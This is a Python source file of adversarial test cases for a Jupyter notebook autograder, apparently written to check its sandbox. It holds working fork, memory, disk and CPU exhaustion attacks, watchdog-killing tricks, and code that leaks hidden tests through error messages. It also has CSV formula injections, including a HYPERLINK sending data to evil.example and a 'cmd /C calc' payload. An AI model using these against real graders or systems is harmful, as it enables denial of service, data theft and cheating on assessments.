    s.sendto(query, ("1.1.1.1", 53))
    if s.recvfrom(512)[0]:
        _report["connected"].append("udp 1.1.1.1:53 answered")
except Exception:
    pass
_tcp("1.1.1.1", 53)
try:
    _report["connected"].append("resolved pypi.org to " + socket.gethostbyname("pypi.org"))
except Exception:
    pass
""",
    ),
    secrets=True,
)
add(
    "network_https",
    SECRETS,
    "network",
    secret_attack("network_https", NET + '_tcp("pypi.org", 443)\n_tcp("151.101.0.223", 443)\n'),
    secrets=True,
)
add(
    "network_host_listener",
    SECRETS,
    "network",
    secret_attack(
        "network_host_listener",
        NET
        + """
_tcp("127.0.0.1", {host_port})
# Whatever else listens on the loopback (other kernels over TCP, databases, ...), except the
# kernel's own sockets (ipykernel may listen on its own loopback).
own = set()
for fd in _os.listdir("/proc/self/fd"):
    try:
        own.add(_os.readlink("/proc/self/fd/" + fd))
    except OSError:
        pass
try:
    for line in open("/proc/net/tcp").read().splitlines()[1:60]:
        fields = line.split()
        if fields[3] == "0A" and "socket:[%s]" % fields[9] not in own:
            _tcp("127.0.0.1", int(fields[1].split(":")[1], 16))
except Exception:
    pass
""",
    ),
    secrets=True,
)

# Exhausting the host (all in train_neuron: the earlier exercises have run) ---------------------

add(
    "fork_storm",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        """
import os
import time
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
    except OSError:
        break
""",
    ),
    kills_kernel=True,
)
add(
    "spawn_storm",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        f"""
import subprocess
_children = []
for _ in range(2000):
    try:
        _children.append(subprocess.Popen(["sleep", "{SPAWN_MARK}"]))
    except OSError:
        break
""",
    ),
    kills_kernel=True,
)
add(
    "thread_storm",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        """
import threading
import time
for _ in range(3000):
    try:
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
    except RuntimeError:
        break
""",
    ),
    kills_kernel=True,
)
add(
    "memory_hog",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        """
_hog = []
for _ in range(40):  # 40 x 100 MB, touched
    _hog.append(np.ones(100 * 2**20 // 8))
""",
    ),
    kills_kernel=True,
)
add(
    "disk_fill",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        f"""
import os
import tempfile
_chunk = bytes(2**20)
for _folder in (os.getcwd(), "/tmp", tempfile.gettempdir(), os.path.expanduser("~")):
    for _i in range(10):  # at most 10 x 32 MB per folder
        try:
            with open(os.path.join(_folder, "{FILE_MARK}-fill-%d" % _i), "wb") as _f:
                for _ in range(32):
                    _f.write(_chunk)
        except OSError:
            break
""",
    ),
    kills_kernel=True,
)
add(
    "huge_file",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        f"""
_chunk = bytes(2**20)
try:
    with open("{FILE_MARK}-huge", "wb") as _f:
        for _ in range(700):  # up to 700 MB in one file
            _f.write(_chunk)
except OSError:
    pass
""",
    ),
    kills_kernel=True,
)
add(
    "output_flood",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        """
_line = "x" * (2**20 - 1)
for _ in range(200):
    print(_line)
""",
    ),
    kills_kernel=True,
)
add(
    "infinite_loop",
    EXHAUST,
    "train_neuron",
    cell(
        """
def train_neuron(X, y, n_iter, seed):
    while True:
        pass
"""
    ),
    kills_kernel=True,
)
add(
    "sleep_ignoring_sigint",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        """
import signal
import time
signal.signal(signal.SIGINT, signal.SIG_IGN)
time.sleep(10**6)
""",
    ),
    kills_kernel=True,
)
add(
    "many_open_files",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        """
import os
_fds = []
for _ in range(20000):
    try:
        _fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        break
""",
    ),
    kills_kernel=True,
)
add(
    "orphan_spinners",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        """
import os
import time
for _ in range(2):  # double fork + setsid: out of the kernel's process tree, spinning for 90 s
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.monotonic() + 90
            while time.monotonic() < end:
                pass
        os._exit(0)
    os.waitpid(pid, 0)
""",
    ),
    kills_kernel=True,
)


# --- the red-team report's vectors (reviews/redteam-1.md), each in a version of its own ---------

# The solution's own train_neuron (no solution markers), for attacks whose points, if any, could
# only come from the grader failing to stop them (the budget, a limit).
RIGHT_TRAIN = """
def train_neuron(X, y, n_iter, seed):
    X = np.asarray(X, dtype=float)
    y = np.asarray(y, dtype=float).reshape(-1)
    w = 2 * np.random.default_rng(seed).random(3) - 1
    for _ in range(n_iter):
        out = sigmoid(X @ w)
        w = w + X.T @ ((y - out) * out * (1 - out))
    return w
"""

RIGHT_NETWORK = """
class OurNeuralNetwork:
    def __init__(self):
        self.h1 = Neuron([0, 1], 0)
        self.h2 = Neuron([0, 1], 0)
        self.o1 = Neuron([0, 1], 0)

    def feedforward(self, x):
        return self.o1.feedforward([self.h1.feedforward(x), self.h2.feedforward(x)])
"""

# The folder the kernel shares with the host (connection file, sockets): the only host path it
# can write. A chain deeper than Python's recursion limit broke a recursive os.walk / rmtree.
RUN_FOLDER = f"""
import os as _os
import time as _time
from ipykernel import get_connection_file as _connection_file

_RUN = _os.path.dirname(_connection_file())


def _deep_chain(depth=1100, payload_mb=0):
    path = _os.path.join(_RUN, "{FILE_MARK}-chain")
    made = []
    try:
        _os.mkdir(path)
        made.append(path)
        for _ in range(depth):
            path = _os.path.join(path, "d")
            _os.mkdir(path)
            made.append(path)
        if payload_mb:
            with open(_os.path.join(path, "{FILE_MARK}-bottom"), "wb") as f:
                for _ in range(payload_mb):
                    f.write(bytes(2**20))
    except OSError:
        pass
    return made


def _remove_chain(made):
    for path in reversed(made):
        try:
            for name in _os.listdir(path):
                _os.unlink(_os.path.join(path, name)) if name != "d" else None
            _os.rmdir(path)
        except OSError:
            pass
"""

# Reads the calling cell's source (IPython's history of inputs): the hidden tests are in it.
IN_HISTORY = """
import json as _json
import sys as _sys


def _running_cell():
    return get_ipython().user_ns.get("_ih", [""])[-1]


def _hidden_sources():
    return [s for s in get_ipython().user_ns.get("_ih", []) if "expect(" in s]
"""

# D1: a raw iopub error whose JSON escapes decode to lone surrogates (and a stream and a display
# of the same), sent from the network's visible test cell.
add(
    "raw_surrogate_error",
    FORGERY,
    "network",
    cell(
        """
_kernel = get_ipython().kernel


def _surrogates():
    parent, raw = _kernel.get_parent(), [
        ("error", b'{"ename": "Bad\\\\ud800", "evalue": "\\\\udfff\\\\ud800 '
                  b'\\\\u0000\\\\u001b[31m", "traceback": ["\\\\ud800"]}'),
        ("stream", b'{"name": "stderr", "text": "\\\\ud800 stderr \\\\udc80\\\\n"}'),
        ("display_data", b'{"data": {"text/plain": "\\\\ud800"}, "metadata": {}, "transient": {}}'),
    ]
    for msg_type, content in raw:
        try:
            _kernel.session.send(
                _kernel.iopub_socket, msg_type, content, parent=parent,
                ident=_kernel._topic(msg_type),
            )
        except Exception:
            pass
""",
        """
class OurNeuralNetwork:
    def __init__(self):
        self.h1 = Neuron([0, 1], 0)
        self.h2 = Neuron([0, 1], 0)
        self.o1 = Neuron([0, 1], 0)

    def feedforward(self, x):
        _surrogates()
        return np.float64(0.5)
""",
    ),
)
# D2: kill the watchdog (a recursive walk of the deep chain died of RecursionError), then hold
# more memory than --memory-mb 1500.
add(
    "watchdog_kill_hog",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        RUN_FOLDER,
        """
_chain = _deep_chain()
_time.sleep(1.5)
_remove_chain(_chain)
_hog = []
for _ in range(25):  # 25 x 100 MB, touched
    _hog.append(np.ones(100 * 2**20 // 8))
""",
    ),
    kills_kernel=True,
)
# D3: kill the watchdog, then stall in many cells, each under the cell timeout (edit
# "stall_cells": sleeps before train_neuron's tests, longer in all than the notebook budget). A
# right train_neuron: its points could only come from the budget not being enforced.
add(
    "stall_after_watchdog_kill",
    EXHAUST,
    "train_neuron",
    cell(RUN_FOLDER, "_remove_chain(_deep_chain())", RIGHT_TRAIN),
    kills_kernel=True,
    edit="stall_cells",
    max_seconds=130,
)
# The same stall without touching the watchdog: the budget alone must stop it, between cells.
add(
    "stall_many_cells",
    EXHAUST,
    "train_neuron",
    cell(RIGHT_TRAIN),
    kills_kernel=True,
    edit="stall_cells",
    max_seconds=130,
)
# D4: memory the resident-set polling never sees: memfd files, written and kept open.
add(
    "memfd_hog",
    EXHAUST,
    "train_neuron",
    cell(
        REPORT.replace('"NAME"', '"memfd_hog"'),
        """
import os
import sys
_finish()
sys.stdout.flush()
_memfds = []
_chunk = b"m" * 2**20
try:
    for _i in range(80):  # 80 x 32 MB, under RLIMIT_FSIZE each
        fd = os.memfd_create("agattack-memfd-%d" % _i)
        _memfds.append(fd)
        for _ in range(32):
            os.write(fd, _chunk)
except (OSError, KeyboardInterrupt) as _e:
    _report["listed"]["stopped"] = [type(_e).__name__]
_report["listed"]["held_mb"] = [str(32 * len(_memfds))]
if 32 * len(_memfds) > 1500:
    _report["hits"].append("held %d MB of memfd under a 1500 MB cap" % (32 * len(_memfds)))
_finish()
""",
        WRONG_TRAIN,
    ),
    kills_kernel=True,
)
# D5: fallocate(KEEP_SIZE) reserves blocks that st_size does not show and RLIMIT_FSIZE does not
# limit: on files in the run folder, and on every descriptor the kernel holds that names a
# regular file it did not open itself (an inherited descriptor of the grader). Reports what it
# got (hits: more than the run folder's cap, or any inherited host file).
add(
    "fallocate_keep_size",
    EXHAUST,
    "train_neuron",
    cell(
        REPORT.replace('"NAME"', '"fallocate_keep_size"'),
        RUN_FOLDER,
        """
import ctypes
import fcntl
import stat
import sys

_libc = ctypes.CDLL(None, use_errno=True)
_libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
_KEEP_SIZE = 1


def _reserve(fd, size):
    return _libc.fallocate(fd, _KEEP_SIZE, 0, size) == 0


_fds = []
for _name in sorted(_os.listdir("/proc/self/fd"), key=int):
    try:
        _target = _os.readlink("/proc/self/fd/" + _name)
        _mode = _os.fstat(int(_name)).st_mode
    except OSError:
        continue
    _kind = "file" if stat.S_ISREG(_mode) else "dir" if stat.S_ISDIR(_mode) else "other"
    _writable = fcntl.fcntl(int(_name), fcntl.F_GETFL) & (_os.O_WRONLY | _os.O_RDWR)
    _fds.append("%s %s%s %s" % (_name, _kind, "-w" if _writable else "-r", _target))
    _own = _target.startswith(("/home/student/", _RUN))
    if _kind == "file" and not _own:
        if _writable:
            _report["hits"].append("a writable host file: fd %s (%s)" % (_name, _target))
        if _reserve(int(_name), 256 << 20):
            _report["hits"].append("reserved 256 MB on fd %s (%s)" % (_name, _target))
_report["listed"]["fds"] = _fds
_finish()
sys.stdout.flush()

_reserved, _files = 0, []
for _i in range(32):  # up to 32 x 32 MB in the run folder
    try:
        _fd = _os.open(_os.path.join(_RUN, "agattack-falloc-%d" % _i), _os.O_CREAT | _os.O_WRONLY)
    except OSError:
        break
    _files.append(_fd)
    if not _reserve(_fd, 32 << 20):
        break
    _reserved += 32
_report["listed"]["reserved_mb"] = [str(_reserved)]
if _reserved > 300:
    _report["hits"].append("reserved %d MB in the run folder" % _reserved)
_finish()
sys.stdout.flush()
""",
        WRONG_TRAIN,
    ),
    kills_kernel=True,
    secrets=True,
)
# D6: inodes, not bytes: many empty folders and files in the run folder (bounded: 20 s).
add(
    "empty_inodes",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        RUN_FOLDER,
        f"""
_end = _time.monotonic() + 20
_top = _os.path.join(_RUN, "{FILE_MARK}-inodes")
try:
    _os.mkdir(_top)
    for _i in range(300_000):
        if _time.monotonic() > _end:
            break
        if _i % 3:
            open(_os.path.join(_top, "f%d" % _i), "w").close()
        else:
            _os.mkdir(_os.path.join(_top, "d%d" % _i))
except OSError:
    pass
_time.sleep(3)
""",
    ),
    kills_kernel=True,
    max_seconds=60,
)
# C1: the deep chain, a file at its bottom, left behind for the cleanup to trip on.
add(
    "deep_chain_leftover",
    EXHAUST,
    "train_neuron",
    cell(WRONG_TRAIN, RUN_FOLDER, "_deep_chain(payload_mb=32)\n_time.sleep(3)"),
    kills_kernel=True,
)
# D7: update_display_data rewrites every earlier output with its id: 1000 tiny displays, then
# updates of 300 kB each, in this cell and after every later one.
add(
    "display_update_amplify",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        """
from IPython.display import display, update_display


def _amplify(*_):
    for _ in range(250):
        display({"text/plain": "."}, raw=True, display_id="agattack-amp")
    for _ in range(3):
        update_display({"text/plain": "A" * 300_000}, raw=True, display_id="agattack-amp")


_amplify()
_amplify()
get_ipython().events.register("post_run_cell", _amplify)
""",
    ),
)
# D7: comm messages (widget state, kept by nbclient for the notebook's metadata), 60 MB of them
# (a well-formed state: nbclient's widget handler raises KeyError on one without _model_module).
add(
    "comm_flood",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        """
try:
    from comm import create_comm as _create_comm
except ImportError:
    from ipykernel.comm import Comm as _create_comm
_comms = []
for _i in range(100):
    _c = _create_comm(
        target_name="jupyter.widget",
        data={
            "state": {"_model_name": "A", "_model_module": "agattack", "_model_module_version": "1",
                      "v": "B" * 200_000},
            "buffer_paths": [],
        },
    )
    for _k in range(2):
        _c.send({"method": "update", "state": {"k%d" % _k: "C" * 200_000}, "buffer_paths": []})
    _comms.append(_c)
""",
    ),
)
# D8: CPU spinners, each in a session (an autogroup) of its own, for 30 s; the kernel lingers
# 7 s after every cell so that the students graded meanwhile share the CPU with them. Named to
# be graded just before the honest students.
add(
    "hog_cpu_setsid",
    EXHAUST,
    "train_neuron",
    cell(
        WRONG_TRAIN,
        f"""
import subprocess
import time
_spinners = []
for _ in range(20):
    try:
        _spinners.append(subprocess.Popen(
            ["timeout", "-s", "KILL", "30", "sh", "-c", "while :; do :; done", "{FILE_MARK}-spin"],
            start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        ))
    except OSError:
        break


def _linger(*_):
    time.sleep(7)


get_ipython().events.register("post_run_cell", _linger)
_linger()
""",
    ),
    kills_kernel=True,
)
# B1: a hidden test cell's error carries the hidden tests' source (IPython's history holds every
# cell run so far), in its message (with the prefix the grader once quoted) or its class name.
add(
    "leak_hidden_message",
    SECRETS,
    "train_neuron",
    cell(
        IN_HISTORY,
        RIGHT_TRAIN.replace(
            "def train_neuron(X, y, n_iter, seed):\n",
            "def train_neuron(X, y, n_iter, seed):\n"
            "    if 'expect(' in _running_cell():\n"
            "        raise RuntimeError('Скрытая проверка: ' + _json.dumps(_hidden_sources()))\n",
        ),
    ),
    ceiling=VISIBLE["train_neuron"],
)
add(
    "leak_hidden_ename",
    SECRETS,
    "train_neuron",
    cell(
        IN_HISTORY,
        RIGHT_TRAIN.replace(
            "def train_neuron(X, y, n_iter, seed):\n",
            "def train_neuron(X, y, n_iter, seed):\n"
            "    if 'expect(' in _running_cell():\n"
            "        raise type(_json.dumps(_hidden_sources()), (Exception,), {})('x')\n",
        ),
    ),
    ceiling=VISIBLE["train_neuron"],
)
# B1 through a visible test cell: by the network's visible cell, the hidden tests of sigmoid and
# neuron have run, and a visible cell's error message is shown to the student.
add(
    "leak_hidden_visible",
    SECRETS,
    "network",
    cell(
        IN_HISTORY,
        """
class OurNeuralNetwork:
    def __init__(self):
        self.h1 = Neuron([0, 1], 0)
        self.h2 = Neuron([0, 1], 0)
        self.o1 = Neuron([0, 1], 0)

    def feedforward(self, x):
        if "assert_close" in _running_cell():
            hidden = _hidden_sources()
            raise RuntimeError(_json.dumps(hidden) + "\\n" + "\\n".join(hidden))
        return np.float64(0.5)
""",
    ),
)
# B1 through the grader's own verdict on a hidden cell: a report the kernel forges (its key is
# quoted as "лишний результат ...") and a value of a class of the kernel's naming (quoted as
# "получен объект ..."). A right train_neuron everywhere else.
add(
    "leak_hidden_forged_key",
    SECRETS,
    "train_neuron",
    cell(
        IN_HISTORY,
        """
from IPython.display import display as _display
import autograder.checks as _checks
""",
        RIGHT_TRAIN.replace(
            "def train_neuron(X, y, n_iter, seed):\n",
            "def train_neuron(X, y, n_iter, seed):\n"
            "    if 'expect(' in _running_cell():\n"
            "        _leak = _json.dumps(_hidden_sources())\n"
            "        _leak = _leak[_leak.index('BEGIN'):][:250]\n"
            "        _display({_checks.RECORD_MIME: {'key': _leak, 'value': 0}}, raw=True)\n",
        ),
    ),
    ceiling=VISIBLE["train_neuron"],
)
add(
    "leak_hidden_object_name",
    SECRETS,
    "train_neuron",
    cell(
        IN_HISTORY,
        RIGHT_TRAIN.replace(
            "def train_neuron(X, y, n_iter, seed):\n",
            "def train_neuron(X, y, n_iter, seed):\n"
            "    if 'expect(' in _running_cell():\n"
            "        _leak = _json.dumps(_hidden_sources())\n"
            "        return type(_leak[_leak.index('BEGIN'):][:250], (), {})()\n",
        ),
    ),
    ceiling=VISIBLE["train_neuron"],
)
# D9: an exception class named like a spreadsheet formula, raised in a visible test: the reason
# column of exercises.csv starts with it. One formula start per exercise that has room for it.
FORMULA = '=HYPERLINK("https://evil.example/?d="&A2&C2&F2,"подробнее")&"'
add(
    "csv_formula_reason",
    FORGERY,
    "network",
    cell(
        f"""
_FORMULA = {FORMULA!r}
""",
        """
class OurNeuralNetwork:
    def __init__(self):
        self.h1 = Neuron([0, 1], 0)
        self.h2 = Neuron([0, 1], 0)
        self.o1 = Neuron([0, 1], 0)

    def feedforward(self, x):
        if x == [2, 3]:
            raise type(_FORMULA, (Exception,), {})('"')
        return np.float64(0.5)
""",
    ),
)
add(
    "csv_formula_tab",
    FORGERY,
    "train_neuron",
    cell(
        """
def train_neuron(X, y, n_iter, seed):
    raise type("\\t@SUM(1+1)*cmd|' /C calc'!A0", (Exception,), {})("+1+1")
"""
    ),
)


# --- honest controls: right answers in styles the grader must not punish -------------------------

HONEST_CONTROLS: list[tuple[str, str, str]] = [
    # E1: the notebook's own check helper called inside the student's function.
    (
        "honest_checks_inside",
        "sigmoid",
        cell(
            """
def sigmoid(x):
    x = np.asarray(x, dtype=float)
    out = 1.0 / (1.0 + np.exp(-x))
    assert_shape(out, x.shape, name="форма выхода sigmoid")
    return out
"""
        ),
    ),
    # E2: the usual live-progress idiom, at every step.
    (
        "honest_live_progress",
        "train_neuron",
        cell(
            """
from IPython.display import clear_output


def train_neuron(X, y, n_iter, seed):
    X = np.asarray(X, dtype=float)
    y = np.asarray(y, dtype=float).reshape(-1)
    w = 2 * np.random.default_rng(seed).random(3) - 1
    for i in range(n_iter):
        out = sigmoid(X @ w)
        w = w + X.T @ ((y - out) * out * (1 - out))
        clear_output(wait=True)
        print(f"обучение: шаг {i + 1}/{n_iter}")
    return w
"""
        ),
    ),
    (
        "honest_progress_flush",
        "train_neuron",
        cell(
            """
def train_neuron(X, y, n_iter, seed):
    X = np.asarray(X, dtype=float)
    y = np.asarray(y, dtype=float).reshape(-1)
    w = 2 * np.random.default_rng(seed).random(3) - 1
    for i in range(n_iter):
        out = sigmoid(X @ w)
        w = w + X.T @ ((y - out) * out * (1 - out))
        print(f"\\rшаг {i + 1}/{n_iter}", end="", flush=True)
    return w
"""
        ),
    ),
]
